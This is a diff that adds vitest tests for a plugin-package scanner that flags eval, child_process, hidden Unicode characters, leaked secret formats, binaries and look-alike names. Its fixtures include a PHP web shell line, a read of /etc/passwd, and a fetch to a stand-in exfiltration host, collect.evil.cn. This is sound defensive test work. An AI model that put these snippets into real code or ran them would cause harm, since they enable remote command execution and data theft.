@@ -1,0 +1,185 @@
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import { LOCALES, translate } from '../../../common/index.js';
+
+import type { PackageForm } from '../package-manifest.js';
+import { readPackage } from '../read-package.js';
+import { writeRealZip } from '../testing/real-zip.js';
+
+import type { PackageFinding } from './finding.js';
+import { findProblems, type FindingContext } from './find-problems.js';
+import { similarNames } from './similar-names.js';
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'svc-findings-'));
+});
+afterAll(() => rm(folder, { recursive: true, force: true }));
+
+const form: PackageForm = { type: 'plugin', slug: 'demo', name: 'Demo', version: '1.0.0' };
+const manifest = JSON.stringify({ id: 'demo', name: 'Demo', version: '1.0.0' });
+
+async function find(files: Record<string, string | Buffer>, context?: FindingContext, as = form): Promise<PackageFinding[]> {
+  const whole = { 'plugin.json': manifest, 'index.js': 'module.exports = () => {};\n', ...files };
+  const path = await writeRealZip(join(folder, 'demo.zip'), Object.fromEntries(Object.entries(whole).map(([name, content]) => [`demo/${name}`, content])));
+  const { contents, manifest: read } = await readPackage(path, { ...as, slug: 'demo' });
+  const found = await findProblems(contents, as, read, context);
+  for (const { text } of found) {
+    for (const locale of LOCALES) expect(translate(locale, text.key, text.params)).not.toMatch(/^packages\.|\{[a-z]+\}/);
+  }
+  return found;
+}
+
+const rules = (found: PackageFinding[]): string[] => found.map(({ rule, line }) => `${rule}:${line}`);
+
+describe('findProblems', () => {
+  it('has nothing to say about a plain package', async () => {
+    expect(await find({ 'lib/a.js': 'const evaluate = (x) => retrieval(x); // a medieval( thing\n', 'readme.md': '# Demo\n' })).toEqual([]);
+  });
+
+  it.each([
+    ['eval("x")', 'eval:3'],
+    ['const f = new Function("return 1")', 'new_function:3'],
+    ['[].constructor.constructor("return 1")()', 'new_function:3'],
+    ['setTimeout("alert(1)", 1)', 'timer_text:3'],
+    ["const vm = require('node:vm')", 'vm:3'],
+    ["import { spawn } from 'child_process'", 'child_process:3'],
+    ['process.binding("fs")', 'native:3'],
+    ['process.exit(1)', 'process_control:3'],
+    ['const key = process.env.API_KEY', 'environment:3'],
+    ["const { readFile } = require('fs/promises')", 'files:3'],
+    ["import net from 'node:net'", 'network:3'],
+    ["read('/etc/passwd')", 'system_path:3'],
+    ['<?php system($_GET["c"]);', 'php_exec:3'],
+    ['<?php assert($_POST["x"]);', 'php_assert:3'],
+    ['<?php $x = base64_decode("cGhw");', 'base64_code:3'],
+    ['"postinstall": "node x.js"', 'install_script:3'],
+    ['const a = "\u202e gnp"', 'hidden.bidi:3'],
+    ['const a\u200bb = 1', 'hidden.zero_width:3'],
+    ['const a = "\u{e0101}\u{e0102}\u{e0103}"', 'hidden.variation:3'],
+    ['fetch("https://collect.evil.cn/x")', 'host:3'],
+  ])('%s', async (code, rule) => {
+    const found = await find({ 'lib/a.js': `'use strict';\n\n${code}\n` });
+    expect(rules(found)).toContain(rule);
+    expect(found.every(({ file, excerpt }) => file === 'lib/a.js' && !/[\u202e\u200b\u{e0101}]/u.test(excerpt))).toBe(true);
+  });
+
+  it.each([
+    ['aws_key', `AKIA${'IOSFODNN7EXAMPLE'.slice(0, 16)}`],
+    ['private_key', '-----BEGIN RSA PRIVATE KEY-----'],
+    ['github_token', `ghp_${'a1B2'.repeat(9)}`],
+    ['gitlab_token', `glpat-${'a1B2'.repeat(5)}`],
+    ['npm_token', `npm_${'a1B2'.repeat(9)}`],
+    ['slack_token', `xoxb-${'1'.repeat(12)}-abcdef`],
+    ['stripe_key', `sk_live_${'a1B2'.repeat(6)}`],
+    ['google_key', `AIza${'a1B2c'.repeat(7)}`],
+    ['aliyun_key', `LTAI${'a1B2'.repeat(4)}`],
+    ['tencent_key', `AKID${'a1B2'.repeat(8)}`],
+    ['jwt', `eyJ${'a'.repeat(20)}.eyJ${'b'.repeat(30)}.${'c'.repeat(40)}`],
+    ['url_password', 'mysql://root:hunter22@db.internal/panel'],
+    ['password', 'password: "Tr0ub4dor&3x"'],
+  ])('a secret, without repeating it: %s', async (kind, secret) => {
+    const [finding] = (await find({ 'a.js': `const x = '${secret}';` })).filter(({ rule }) => rule === `secret.${kind}`);
+    expect(finding).toMatchObject({ file: 'a.js', line: 1 });
+    if (kind !== 'private_key') expect(finding!.excerpt).not.toContain(secret);
+  });
+
+  it('takes no example for a password', async () => {
+    const found = await find({ 'a.js': 'password: "your-password-1"; secret = "${SECRET_1234}"; api_key: "xxxxxxxxxx"; token = "<token-123>"; pwd = "changeme123";' });
+    expect(found).toEqual([]);
+  });
+
+  it('sees what lies over the border of two steps, and counts its line', async () => {
+    for (const before of [32_760, 32_768, 65_530, 131_070]) {
+      const found = await find({ 'a.js': `${'// 1234567\n'.repeat(Math.floor(before / 11))}eval(x); require("child_process");` });
+      const line = Math.floor(before / 11) + 1;
+      expect(rules(found)).toEqual([`eval:${line}`, `child_process:${line}`]);
+    }
+  });
+
+  it('knows programs, WebAssembly and archives by their first bytes, whatever the name', async () => {
+    const kinds = { elf: '7f454c4602', pe: '4d5a900003', macho: 'cffaedfe07', wasm: '0061736d01', zip: '504b030414', gzip: '1f8b08', zstd: '28b52ffd' };
+    const files = Object.fromEntries(Object.entries(kinds).map(([name, hex]) => [`img/${name}.png`, Buffer.from(hex, 'hex')]));
+    const found = await find(files);
+    expect(found.map(({ rule, file }) => `${rule} ${file}`).sort()).toEqual([
+      ...['archive img/gzip.png', 'archive img/zip.png', 'archive img/zstd.png', 'binary img/elf.png', 'binary img/macho.png', 'binary img/pe.png', 'wasm img/wasm.png'],
+    ]);
+  });
+
+  it('looks through pictures that can be scripts', async () => {
+    expect(rules(await find({ 'a.gif': 'GIF89a=1;/*\0*/eval(x)' }))).toEqual(['eval:1']);
+    expect(await find({ 'a.png': Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.from('eval(x)')]) })).toEqual([]);
+  });
+
+  it('names files that should not be there', async () => {
+    const found = await find({ '.git/config': '', '.env': '', '.env.example': '', 'id_rsa': '', 'run.sh': '', 'panel.db': '' });
+    expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual(['secret_file .env', 'secret_file id_rsa', 'vcs .git/config', 'program_file run.sh', 'data_file panel.db']);
+  });
+
+  it('names minified files, with the longest line', async () => {
+    const found = await find({ 'a.js': `x\n${'a=1;'.repeat(10_000)}\n`, 'b.min.js': 'a=1;'.repeat(10_000), 'c.min.js': 'a=1;'.repeat(300_000), 'd.txt': 'a'.repeat(50_000) });
+    expect(found.map(({ file, severity, line, text }) => [file, severity, line, text.params.kb])).toEqual([
+      ['a.js', 'warning', 2, 40],
+      ['c.min.js', 'warning', 1, 1172],
+      ['b.min.js', 'info', 1, 40],
+    ]);
+  });
+
+  it('names blocked files, look-alike names and reserved slugs', async () => {
+    const blocked = new Set(['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']);
+    const found = await find({ 'empty.txt': '' }, { blockedDigests: blocked, existingSlugs: ['dem0', 'other'], existingNames: ['Dеmo'] });
+    expect(found.map(({ rule, file }) => `${rule} ${file}`)).toEqual(['lookalike ', 'lookalike ', 'blocked empty.txt']);
+    expect(rules(await find({}, {}, { ...form, slug: 'admin' }))).toContain('reserved_slug:0');
+  });
+
+  it('passes on what is wrong with the manifest', async () => {
+    const found = await find({ 'plugin.json': '{"id":"x","version":"2","main":"no.js"}' });
+    expect(found.map(({ rule, severity }) => `${rule} ${severity}`)).toEqual(['manifest.entry danger', 'manifest.slug warning', 'manifest.version warning']);
+  });
+
+  it('stays within 200, the gravest first, and says that there is more', async () => {
+    const files = Object.fromEntries(Array.from({ length: 150 }, (_, i) => [`${i}.js`, 'process.env.A; process.exit(1);\n'.repeat(20)]));
+    const found = await find({ ...files, 'z.js': 'eval(1)' });
+    expect(found).toHaveLength(200);
+    expect(found[0]).toMatchObject({ rule: 'eval', file: 'z.js' });
+    expect(found.at(-1)).toMatchObject({ rule: 'more' });
+  });
+
+  it('says where it had to stop', async () => {
+    let time = 0;
+    const found = await find({ 'a.js': 'eval(1)' }, { timeoutMs: 10, now: () => (time += 6) });
+    expect(found.map(({ rule }) => rule)).toContain('not_finished');
+  });
+
+  it('leaves the event loop free, whatever the text', async () => {
+    const nasty = ['-eyJ-eyJ', 'eval(', 'http://a', 'password="', 'xoxb-', 'AKIA', '\u200b', 'require("', '=> ', 'https://a:b'].map((part) => part.repeat(Math.ceil(400_000 / part.length)));
+    let turns = 0;
+    const timer = setInterval(() => (turns += 1), 0);
+    await find(Object.fromEntries(nasty.map((text, i) => [`${i}.js`, text])));
+    clearInterval(timer);
+    expect(turns).toBeGreaterThan(20);
+  });
+});
+
+describe('similarNames', () => {
+  const existing = ['hosting_shop', 'alipay', 'wechat-pay', 'modern', 'ab'];
+  it.each([
+    ['hosting-shop', ['hosting_shop', true]],
+    ['HostingSh0p', ['hosting_shop', true]],
+    ['аlipay', ['alipay', true]],
+    ['modem', ['modern', true]],
+    ['alipai', ['alipay', false]],
+    ['wechatpya', ['wechat-pay', false]],
+    ['hosting_shoop', ['hosting_shop', false]],
+  ])('%s', (name, [similar, lookalike]) => {
+    expect(similarNames(name, existing)).toEqual([{ name: similar, lookalike }]);
+  });
+
+  it.each(['alipay', 'ac', 'backup', 'pay', '…'])('%s is like none', (name) => {
+    expect(similarNames(name, existing)).toEqual([]);
+  });
+});
